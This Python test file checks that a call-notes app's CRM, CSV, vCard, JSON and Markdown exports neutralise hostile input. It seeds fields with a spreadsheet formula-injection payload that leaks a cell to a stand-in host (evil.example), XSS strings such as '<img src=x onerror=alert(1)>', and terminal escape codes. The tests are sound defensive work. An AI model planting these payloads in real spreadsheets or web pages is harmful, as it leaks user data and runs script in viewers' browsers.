"""CRM-ready and safe exports (issue 21): every format read back by a reader of
its own (csv, vobject, jsonschema, markdown-it), with hostile text in every field."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from datetime import UTC, date, datetime, time, timedelta
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import vobject
from markdown_it import MarkdownIt

from callmate.domain.crm_export import (
    HUBSPOT_COLUMNS,
    HUBSPOT_REQUIRED,
    HUBSPOT_TASK_COLUMNS,
    HUBSPOT_TASK_REQUIRED,
    HUBSPOT_TEXT_MAX,
    PIPEDRIVE_COLUMNS,
    PIPEDRIVE_REQUIRED,
    SALESFORCE_COLUMNS,
    SALESFORCE_REQUIRED,
    SALESFORCE_TEXT_MAX,
    call_body,
    crm_chunks,
    hubspot_tasks_path,
)
from callmate.domain.csv_safe import FORMULA_LEADS, neutralised
from callmate.domain.export_schema import SCHEMA_VERSION, schema_text
from callmate.domain.importer import ImportFileError, parse_export
from callmate.domain.md_safe import md_text
from callmate.domain.models import (
    Call,
    Contact,
    NextStep,
    Note,
    NoteKind,
    Outcome,
    Owner,
    Question,
    Reason,
    ResearchArea,
    ResearchLine,
)
from callmate.domain.vcard import FOLD_OCTETS, vcard, vcard_chunks
from callmate.locations import database_path
from callmate.store.repository import Repository
from tests.test_robust_storage import fill, read_only_dir, tiny_disk  # noqa: F401  (fixtures)

ROOT = Path(__file__).resolve().parent.parent
SCHEMA_FILE = ROOT / "docs" / "export.schema.json"

# What a customer (or a pasted email) may say, in every field.
MARKUP = "[bold]x[/] [@click=app.quit]"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
PLUS = "+1 555 0100"
MINUS = "-2+3"
AT_SUM = "@SUM(A1:A9)"
QUOTES = 'say "hi", then; go \\ back'
EMOJI = "🙂 👩‍💻 café"
CONTROLS = "esc\x1b[31mred bell\x07 nul\x00"
SECRET = "PRIVATE-do-not-share"
TAB_LEAD = "\tTAB-LEAD"
CR_LEAD = "\rCR-LEAD"


def cli(*args: str, home: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "callmate", *args],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=ROOT,
        env={**os.environ, "CALLMATE_HOME": str(home)},
    )


def one_line(result: subprocess.CompletedProcess[str]) -> str:
    assert "Traceback" not in result.stderr, result.stderr
    lines = result.stderr.splitlines()
    assert len(lines) == 1, result.stderr
    return lines[0]


def seed_hostile(home: Path) -> list[Call]:
    """Two calls with one hostile contact (and a third, plain one): every text field
    holds markup, a formula, a leading + - @, quotes, commas, semicolons, emoji and
    control characters; one note is private and must never leave the user's hands."""
    repo = Repository.open(database_path(home))
    now = datetime(2026, 11, 20, 14, 30, tzinfo=UTC)
    calls = []
    try:
        contact = Contact(
            name=f"{FORMULA} Dana {CONTROLS} Whitfield",
            company=f"{AT_SUM} Northwind, Freight; {MARKUP}",
            email="dana.whitfield@northwind.example",
            phone=PLUS,
            title=f"{MINUS} Head of Ops; {EMOJI}",
        )
        for number, day in enumerate((now - timedelta(days=2), now)):
            call = repo.start_call(
                Call(
                    contact=contact if number == 0 else calls[0].contact,
                    goal=f"{MINUS} book a demo {QUOTES} {EMOJI}",
                    backup_goal=f"{AT_SUM} the ops lead's name {MARKUP}",
                    started_at=day,
                    research=[ResearchLine(area=ResearchArea.NEWS, text=f"{FORMULA} Q3 down 8%")],
                    questions=[Question(text=f"{PLUS} budget cycle? {CONTROLS}")],
                )
            )
            assert call.id is not None
            for kind, text in [
                (NoteKind.QUOTE, f"{FORMULA} we lose a day, every week; {QUOTES} {EMOJI}"),
                (NoteKind.PAIN, f"{MINUS} invoices by hand {MARKUP}"),
                (NoteKind.OBJECTION, f"{AT_SUM} too dear\nsecond line; {QUOTES}"),
                (NoteKind.NOTE, f"{AT_SUM} uses <img src=x onerror=alert(1)> ![t](http://e.x/p)"),
                (NoteKind.OURS, f"{PLUS} send the pricing sheet {CONTROLS}"),
                (NoteKind.PRIVATE, f"{SECRET} {FORMULA}"),
            ]:
                note = Note(kind=kind, text=text, created_at=day + timedelta(minutes=3))
                if kind is NoteKind.OBJECTION:  # several lines: in the email only if chosen
                    note = note.model_copy(update={"in_email": True})
                if kind is NoteKind.OURS:
                    note = note.model_copy(update={"owner": "Sam", "due": date(2026, 11, 27)})
                repo.save_note(call.id, note)
            calls.append(
                repo.finish_call(
                    call.id,
                    outcome=Outcome.MAYBE,
                    reason=Reason.NEEDS_REVIEW,
                    reason_text=f"{FORMULA} legal; {QUOTES}",
                    next_step=NextStep(
                        what=f"{PLUS} demo for the ops team {MARKUP}",
                        owner=Owner.BOTH,
                        due=date(2026, 12, 4),
                        due_time=time(15, 0) if number == 0 else None,
                    ),
                    ended_at=day + timedelta(minutes=21, seconds=40),
                )
            )
        plain = repo.start_call(
            Call(contact=Contact(name="Olga Berg", company="Acme"), goal="intro", started_at=now)
        )
        assert plain.id is not None
        calls.append(
            repo.finish_call(
                plain.id,
                outcome=Outcome.YES,
                next_step=NextStep(what="send a proposal", due=date(2026, 12, 1)),
                ended_at=now + timedelta(minutes=5),
            )
        )
    finally:
        repo.close()
    return calls


@pytest.fixture(scope="module")
def hostile_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    home = tmp_path_factory.mktemp("hostile")
    seed_hostile(home)
    return home


def exported(home: Path, tmp_path: Path, fmt: str, *extra: str) -> bytes:
    out = tmp_path / f"calls.{fmt}"
    result = cli("export", "--format", fmt, "--out", str(out), *extra, home=home)
    assert result.returncode == 0, result.stderr
    assert one_line(result).startswith("Wrote ")
    return out.read_bytes()


def rows_of(data: bytes) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""))
    rows = list(reader)
    return list(reader.fieldnames or []), rows


def assert_safe_cells(rows: list[dict[str, str]]) -> None:
    """No cell a spreadsheet would read as a formula; the neutralised ones keep their text."""
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_LEADS), value
            assert "\x1b" not in value and "\x07" not in value and "\x00" not in value


# -- csv_safe ------------------------------------------------------------------------
@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_gets_a_quote(lead: str) -> None:
    assert neutralised(lead + "SUM(A1)") == "'" + lead + "SUM(A1)"


def test_other_cells_are_left_as_they_are() -> None:
    for text in ["", "Dana", "2026-12-04", " =not first", "'quoted already", "1+1", "a@b.c"]:
        assert neutralised(text) == text


# -- the three CRMs ------------------------------------------------------------------
VENDORS: dict[str, Any] = {
    "hubspot": (HUBSPOT_COLUMNS, HUBSPOT_REQUIRED),
    "pipedrive": (PIPEDRIVE_COLUMNS, PIPEDRIVE_REQUIRED),
    "salesforce": (SALESFORCE_COLUMNS, SALESFORCE_REQUIRED),
}
DAY = re.compile(r"\d{4}-\d{2}-\d{2}")
DAY_MINUTE = re.compile(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}")
CLOCK = re.compile(r"\d{2}:\d{2}")


@pytest.mark.parametrize("fmt", list(VENDORS))
def test_each_crm_file_has_its_columns_required_fields_and_safe_cells(
    fmt: str, hostile_home: Path, tmp_path: Path
) -> None:
    columns, required = VENDORS[fmt]
    data = exported(hostile_home, tmp_path, fmt)
    assert not data.startswith(b"\xef\xbb\xbf"), "a BOM only with --bom"
    assert b"\r\n" in data  # RFC 4180 line ends
    header, rows = rows_of(data)
    assert header == columns
    for row in rows:
        for name in required:
            assert row[name], (name, row)
    assert_safe_cells(rows)
    assert SECRET.encode() not in data, "a private note never leaves the user's hands"
    text = "\x1f".join(value for row in rows for value in row.values())
    assert EMOJI in text and "'=HYPERLINK(" in text
    # The quote, in quotation marks, with who said it; the notes with their kind.
    assert "“=HYPERLINK(" in text and "(said by =HYPERLINK(" in text
    assert "- Pain: -2+3 invoices by hand [bold]x[/]" in text
    assert "- Objection: @SUM(A1:A9) too dear\nsecond line; " + QUOTES in text
    assert "- We owe: +1 555 0100 send the pricing sheet" in text and "(due 2026-11-27)" in text
    assert "Outcome: maybe (others need to review it; =HYPERLINK(" in text


def test_hubspot_writes_the_calls_and_beside_them_their_follow_up_tasks(
    hostile_home: Path, tmp_path: Path
) -> None:
    """HubSpot imports two objects a file: contacts + calls, then contacts + tasks."""
    _, rows = rows_of(exported(hostile_home, tmp_path, "hubspot"))
    tasks_file = tmp_path / "calls-tasks.hubspot"
    assert hubspot_tasks_path(tmp_path / "calls.hubspot") == tasks_file
    header, tasks = rows_of(tasks_file.read_bytes())
    assert header == HUBSPOT_TASK_COLUMNS and len(rows) == len(tasks) == 3
    for task in tasks:
        assert all(task[name] for name in HUBSPOT_TASK_REQUIRED)
    assert_safe_cells(tasks)
    first = rows[0]
    assert first["First Name"].startswith("'=HYPERLINK(") and first["Last Name"] == "Whitfield"
    assert first["Company Name"] == "'@SUM(A1:A9) Northwind, Freight; [bold]x[/] [@click=app.quit]"
    assert DAY_MINUTE.fullmatch(first["Activity date"])
    assert first["Activity date"] == "2026-11-18 14:30"  # UTC
    assert first["Call direction"] == "OUTBOUND" and first["Call status"] == "COMPLETED"
    assert rows[2]["Email"] == "" and rows[2]["First Name"] == "Olga"
    assert first["Email"] == tasks[0]["Email"] == "dana.whitfield@northwind.example"
    assert first["Phone Number"] == "'+1 555 0100"
    assert first["Job Title"] == "'-2+3 Head of Ops; 🙂 👩‍💻 café"
    task = tasks[0]
    assert task["Task title"].startswith("'+1 555 0100 demo for the ops team")
    local = datetime.combine(date(2026, 12, 4), time(15, 0)).astimezone().astimezone(UTC)
    assert task["Due date"] == local.strftime("%Y-%m-%d %H:%M")
    assert tasks[1]["Due date"] == "2026-12-04"  # no time of day agreed: the day
    assert task["Task type"] == "TODO" and task["Task status"] == "NOT_STARTED"
    assert "Agreed on the call of 2026-11-18" in task["Task notes"]


def test_hubspot_needs_out_for_its_two_files(hostile_home: Path) -> None:
    result = cli("export", "--format", "hubspot", home=hostile_home)
    assert result.returncode == 2 and result.stdout == ""
    assert "give --out FILE" in one_line(result)


def test_pipedrive_has_the_call_then_its_follow_up_activity(
    hostile_home: Path, tmp_path: Path
) -> None:
    _, rows = rows_of(exported(hostile_home, tmp_path, "pipedrive"))
    assert [r["Activity - Type"] for r in rows] == ["call", "task"] * 3
    call, task = rows[0], rows[1]
    started = datetime(2026, 11, 18, 14, 30, tzinfo=UTC).astimezone()
    assert call["Activity - Due date"] == started.date().isoformat()
    assert call["Activity - Due time"] == started.strftime("%H:%M")
    assert call["Activity - Duration"] == "00:22" and call["Activity - Done"] == "Done"
    assert call["Person - Name"].startswith("'=HYPERLINK(")
    assert call["Organization - Name"].startswith("'@SUM(")
    assert call["Person - Email"] == "dana.whitfield@northwind.example"
    assert call["Person - Phone"] == task["Person - Phone"] == "'+1 555 0100"
    assert task["Activity - Due date"] == "2026-12-04" and task["Activity - Due time"] == "15:00"
    assert task["Activity - Done"] == "To do"
    assert task["Activity - Subject"].startswith("'+1 555 0100 demo")
    for row in rows:
        assert DAY.fullmatch(row["Activity - Due date"])
        assert row["Activity - Due time"] == "" or CLOCK.fullmatch(row["Activity - Due time"])


def test_salesforce_tasks_a_logged_call_and_an_open_follow_up(
    hostile_home: Path, tmp_path: Path
) -> None:
    _, rows = rows_of(exported(hostile_home, tmp_path, "salesforce"))
    call, task = rows[0], rows[1]
    assert (call["TaskSubtype"], call["Type"], call["Status"]) == ("Call", "Call", "Completed")
    assert call["CallType"] == "Outbound" and call["CallDurationInSeconds"] == "1300"
    assert (task["TaskSubtype"], task["Status"], task["ActivityDate"]) == (
        "Task",
        "Not Started",
        "2026-12-04",
    )
    assert all(DAY.fullmatch(r["ActivityDate"]) for r in rows)
    assert all(len(r["Subject"]) <= 255 and r["Priority"] == "Normal" for r in rows)
    assert call["WhoId"] == "" and call["Contact Name"].startswith("'=HYPERLINK(")
    assert call["Contact Email"] == task["Contact Email"] == "dana.whitfield@northwind.example"
    assert call["Contact Title"].startswith("'-2+3 Head of Ops")


def test_a_body_is_cut_to_the_crms_field_size() -> None:
    call = _call_dict(notes=[{"kind": "note", "text": "x" * 70_000, "offset_seconds": 1}])
    assert len(call_body(call, SALESFORCE_TEXT_MAX)) == SALESFORCE_TEXT_MAX
    assert call_body(call, HUBSPOT_TEXT_MAX).endswith("the whole call is in callmate]")


def _call_dict(**changes: Any) -> dict[str, Any]:
    call: dict[str, Any] = {
        "id": 1,
        "status": "done",
        "connection": "connected",
        "contact": {
            "name": TAB_LEAD,
            "company": CR_LEAD,
            "role": "other",
            "uuid": None,
            "email": "@evil",
            "phone": PLUS,
            "title": "=1+1",
        },
        "goal": "-goal",
        "backup_goal": "",
        "notes": [],
        "outcome": None,
        "reason": None,
        "reason_text": "",
        "goal_result": None,
        "next_step": {"what": "@step", "owner": "us", "date": "2026-12-04", "time": None},
        "started_at": "2026-11-20T14:30:00+00:00",
        "ended_at": None,
        "paused_seconds": 0,
    }
    call["next_step"]["done_at"] = None
    call.update(changes)
    return call


@pytest.mark.parametrize("fmt", list(VENDORS))
def test_contact_fields_and_leading_tab_or_cr_are_neutralised(fmt: str) -> None:
    """The contact's email, phone and title (and values no input lets start with
    a tab or CR, as another callmate's JSON might): each in its column, safe."""
    files: dict[int, str] = {}
    for index, piece in crm_chunks(fmt, [_call_dict()]):
        files[index] = files.get(index, "") + piece
    assert len(files) == (2 if fmt == "hubspot" else 1)
    cells = set()
    for text in files.values():
        _, rows = rows_of(text.encode())
        assert_safe_cells(rows)
        cells |= {value for row in rows for value in row.values()}
    assert {"'@evil", "'+1 555 0100"} <= cells
    if fmt != "pipedrive":  # Pipedrive's person has no job title field
        assert "'=1+1" in cells


# -- the existing csv, and --bom ---------------------------------------------------
def test_the_csv_export_is_safe_too_and_bom_is_asked_for(
    hostile_home: Path, tmp_path: Path
) -> None:
    plain = exported(hostile_home, tmp_path, "csv")
    _, rows = rows_of(plain)
    assert_safe_cells(rows)
    assert rows[0]["contact"].startswith("'=HYPERLINK(") and rows[0]["goal"].startswith("'-2+3")
    with_bom = exported(hostile_home, tmp_path, "csv", "--bom")
    assert with_bom == b"\xef\xbb\xbf" + plain
    hubspot = exported(hostile_home, tmp_path, "hubspot", "--bom")
    tasks = (tmp_path / "calls-tasks.hubspot").read_bytes()
    for data in (hubspot, tasks):
        assert data.startswith(b"\xef\xbb\xbfEmail,") and data.count(b"\xef\xbb\xbf") == 1
    refused = cli("export", "--format", "json", "--bom", home=hostile_home)
    assert refused.returncode == 2 and "--bom is for the CSV formats" in one_line(refused)


# -- vCard -----------------------------------------------------------------------------
def test_vcards_read_back_by_vobject_with_hostile_text() -> None:
    contact = {
        "name": f"Dana {QUOTES} Whitfield-Øre {EMOJI}",
        "company": f"Northwind, Freight; Ltd \\ {EMOJI * 12}",
        "uuid": "019AB1C2-6E3F-7D10-8A2B-3C4D5E6F7A8B",
        "email": "dana.whitfield@northwind.example",
        "phone": "+1 (555) 010-0199; ext. 7",
        "title": f"Head of Ops, EMEA; {MARKUP} \x1b[31m",
    }
    text = vcard(contact)
    for line in text.split("\r\n")[:-1]:
        assert len(line.encode("utf-8")) <= FOLD_OCTETS, line
    assert "\x1b" not in text and text.endswith("END:VCARD\r\n")
    card = vobject.readOne(text)
    assert card.version.value == "4.0"
    assert card.fn.value == contact["name"]
    assert card.n.value.family == f"{EMOJI.split()[-1]}"
    assert card.org.value == [contact["company"]]
    assert card.title.value == "Head of Ops, EMEA; [bold]x[/] [@click=app.quit] [31m"
    assert card.email.value == contact["email"]
    assert card.tel.value == contact["phone"]
    assert card.uid.value == "urn:uuid:019ab1c2-6e3f-7d10-8a2b-3c4d5e6f7a8b"


def test_the_vcard_export_has_each_contact_once(hostile_home: Path, tmp_path: Path) -> None:
    data = exported(hostile_home, tmp_path, "vcard").decode("utf-8")
    cards = list(vobject.readComponents(data))
    assert len(cards) == 2, "the two calls with Dana are one card"
    dana, olga = cards
    assert dana.fn.value.startswith(FORMULA) and "\x1b" not in data and "\x07" not in data
    assert dana.org.value == ["@SUM(A1:A9) Northwind, Freight; [bold]x[/] [@click=app.quit]"]
    assert olga.fn.value == "Olga Berg" and olga.n.value.family == "Berg"
    assert dana.email.value == "dana.whitfield@northwind.example"
    assert dana.tel.value == PLUS and dana.title.value == f"{MINUS} Head of Ops; {EMOJI}"
    assert not hasattr(olga, "email") and not hasattr(olga, "tel")
    assert dana.uid.value.startswith("urn:uuid:")
    written = cli(
        "export", "--format", "vcard", "--out", str(tmp_path / "c.vcf"), home=hostile_home
    )
    assert one_line(written) == f"Wrote 2 contacts to {tmp_path / 'c.vcf'}"


def test_vcard_chunks_key_contacts_without_uuid_by_name_and_company() -> None:
    calls = [
        {"contact": {"name": "Ann", "company": "A", "uuid": None}},
        {"contact": {"name": "ann", "company": "a", "uuid": None}},
        {"contact": {"name": "Ann", "company": "B", "uuid": None}},
    ]
    assert len(list(vcard_chunks(calls))) == 2


# -- JSON: schema_version and the published schema ------------------------------------
def test_the_published_schema_is_what_schema_prints(tmp_path: Path) -> None:
    printed = cli("export", "--schema", home=tmp_path / "unused")
    assert printed.returncode == 0 and printed.stdout == schema_text()
    assert SCHEMA_FILE.read_text(encoding="utf-8") == printed.stdout
    assert not (tmp_path / "unused").exists(), "--schema opens no data dir"
    jsonschema.Draft202012Validator.check_schema(json.loads(printed.stdout))


def test_the_json_export_is_valid_against_the_schema_and_imports_back(
    hostile_home: Path, tmp_path: Path
) -> None:
    schema = json.loads(SCHEMA_FILE.read_text(encoding="utf-8"))
    validator = jsonschema.Draft202012Validator(
        schema, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER
    )
    text = exported(hostile_home, tmp_path, "json").decode("utf-8")
    document = json.loads(text)
    validator.validate(document)
    assert document["schema_version"] == SCHEMA_VERSION and len(document["calls"]) == 3
    assert list(document) == ["schema_version", "calls"], "the version first, for streaming"
    # The schema can fail: a call with a key it doesn't know, or a kind it doesn't.
    broken = json.loads(text)
    broken["calls"][0]["notes"][0]["kind"] = "rumour"
    assert not validator.is_valid(broken)
    # Imported into an empty folder, the calls come back the same.
    dump = tmp_path / "calls.json"
    dump.write_text(text, encoding="utf-8")
    again = tmp_path / "again"
    assert cli("import", str(dump), home=again).returncode == 0
    assert cli("export", home=again).stdout == text
    # An export from before schema_version (a bare array) still imports.
    bare = tmp_path / "bare.json"
    bare.write_text(json.dumps(document["calls"]), encoding="utf-8")
    older = tmp_path / "older"
    assert cli("import", str(bare), home=older).returncode == 0
    assert cli("export", home=older).stdout == text


def test_a_newer_schema_version_is_refused_in_one_line(tmp_path: Path) -> None:
    newer = tmp_path / "newer.json"
    newer.write_text(json.dumps({"schema_version": SCHEMA_VERSION + 1, "calls": []}))
    result = cli("import", str(newer), home=tmp_path / "home")
    assert result.returncode == 2
    assert "newer callmate" in one_line(result) and "nothing imported" in result.stderr
    bad = tmp_path / "bad.json"
    bad.write_text('{"schema_version": 1, "calls": [{"goal": ""}]}')
    result = cli("import", str(bad), home=tmp_path / "home")
    assert result.returncode == 2 and "calls[0].goal" in one_line(result)


# -- Markdown ------------------------------------------------------------------------
HOSTILE_MARKDOWN = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "[click](http://evil.example)",
    "![pixel](http://tracker.example/p.png)",
    "<http://evil.example>",
    "http://evil.example/path and www.evil.example and dana@evil.example",
    "[ref][1]\n\n[1]: http://evil.example",
    "&lt;b&gt; &copy; &#60;",
    "# not a heading",
    "1. not a list",
    "- not a list",
    "> not a quote",
    "    not code",
    "`code` **bold** _em_ ~~strike~~ | a | b |",
    "line\\",
    "===",
    FORMULA,
    EMOJI,
]
MARKDOWN_RENDERERS = {
    "commonmark": MarkdownIt("commonmark"),
    "gfm-like+linkify": MarkdownIt("gfm-like").enable("linkify"),
}
FORBIDDEN_TOKENS = {"html_inline", "html_block", "link_open", "image", "code_inline", "fence"}


def _tokens(markdown: MarkdownIt, text: str) -> list[Any]:
    out = []
    for token in markdown.parse(text):
        out.append(token)
        out.extend(token.children or [])
    return out


@pytest.mark.parametrize("renderer", list(MARKDOWN_RENDERERS))
@pytest.mark.parametrize("text", HOSTILE_MARKDOWN)
def test_escaped_text_renders_as_the_words_typed(renderer: str, text: str) -> None:
    markdown = MARKDOWN_RENDERERS[renderer]
    escaped = md_text(text)
    tokens = _tokens(markdown, escaped)
    assert not FORBIDDEN_TOKENS & {t.type for t in tokens}, [t.type for t in tokens]
    assert {t.type for t in tokens if t.level == 0 and t.nesting == 1} <= {"paragraph_open"}
    # Read back, the text is what was typed (leading spaces aside, and the lines).
    shown = "".join(t.content for t in tokens if t.type in ("text", "text_special"))
    assert shown.replace("\n", "") == text.lstrip().replace("\n", "").replace("    ", "")


def test_the_unescaped_text_would_have_rendered_as_markup() -> None:
    """So the test above can fail: each hostile line, unescaped, is markup."""
    markdown = MARKDOWN_RENDERERS["gfm-like+linkify"]
    for text in HOSTILE_MARKDOWN[:6]:
        assert FORBIDDEN_TOKENS & {t.type for t in _tokens(markdown, text)}, text


def test_the_markdown_export_shows_user_text_as_text(hostile_home: Path) -> None:
    result = cli("export", "--format", "md", home=hostile_home)
    assert result.returncode == 0, result.stderr
    assert SECRET in result.stdout, "the Markdown is the user's own: private notes stay in it"
    for renderer in MARKDOWN_RENDERERS.values():
        types = {t.type for t in _tokens(renderer, result.stdout)}
        assert not {"html_inline", "html_block", "link_open", "image"} & types
    assert "\\<img src=x onerror=alert\\(1\\)\\>" in result.stdout


# -- errors: one line, the last file kept ---------------------------------------------
@pytest.mark.parametrize("fmt", ["hubspot", "pipedrive", "salesforce", "vcard"])
def test_an_unwritable_out_is_one_line(fmt: str, read_only_dir: Path, tmp_path: Path) -> None:  # noqa: F811
    home = tmp_path / "home"
    seed_hostile(home)
    result = cli("export", "--format", fmt, "--out", str(read_only_dir / "x.csv"), home=home)
    assert result.returncode == 1
    assert one_line(result).startswith(f"callmate: could not write {read_only_dir / 'x.csv'}: ")


def test_a_full_disk_leaves_the_last_crm_export_as_it_was(
    tiny_disk: Path,  # noqa: F811
    tmp_path: Path,
) -> None:
    home = tmp_path / "home"
    seed_hostile(home)
    out = tiny_disk / "hubspot.csv"
    first = cli("export", "--format", "hubspot", "--out", str(out), home=home)
    assert first.returncode == 0, first.stderr
    tasks = tiny_disk / "hubspot-tasks.csv"
    assert one_line(first) == f"Wrote 3 calls to {out} and their follow-up tasks to {tasks}"
    earlier, earlier_tasks = out.read_bytes(), tasks.read_bytes()
    fill(tiny_disk)
    again = cli("export", "--format", "hubspot", "--bom", "--out", str(out), home=home)
    assert again.returncode == 1
    assert one_line(again) == f"callmate: could not write {out}: No space left on device"
    assert out.read_bytes() == earlier and tasks.read_bytes() == earlier_tasks
    assert not [p for p in tiny_disk.iterdir() if p.name.endswith(".tmp")]


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ('{"calls": [], "schema_version": 2}', "newer callmate"),  # checked after the calls too
        ('{"schema_version": "1", "calls": []}', '"schema_version" must be a whole number'),
        ('{"schema_version": 1, "calls": [], "calls": []}', '"calls" appears twice'),
        ('{"schema_version": 1, "calls": {}}', '"calls" must be a JSON array of calls'),
        ('{"schema_version": 1}', 'has no "calls"'),
        ('{"calls": []}', 'found an object without "schema_version"'),
        ('{"schema_version": 1, "calls": []} []', "Extra data"),
        ('{"schema_version": 1 "calls": []}', "Expecting ',' delimiter"),
    ],
)
def test_an_export_document_that_is_wrong_says_why(text: str, why: str) -> None:
    with pytest.raises(ImportFileError) as caught:
        parse_export(text)
    assert why in str(caught.value)


def test_other_keys_of_an_export_document_are_skipped() -> None:
    text = '{"schema_version": 1, "made_by": {"app": ["callmate", 2]}, "calls": []}'
    assert parse_export(text) == []


def test_ordinary_prose_keeps_its_look_in_markdown() -> None:
    """Only what would become markup or a link is escaped: a note's abbreviations,
    decimals and times read in the raw file as typed."""
    prose = "They run 4 depots, e.g. Leeds; budget 3.5k by 10:30 on v2.1 — fine."
    assert md_text(prose) == prose
    assert md_text("see acme.com") == "see acme\\.com"  # a linkifier's domain is broken up
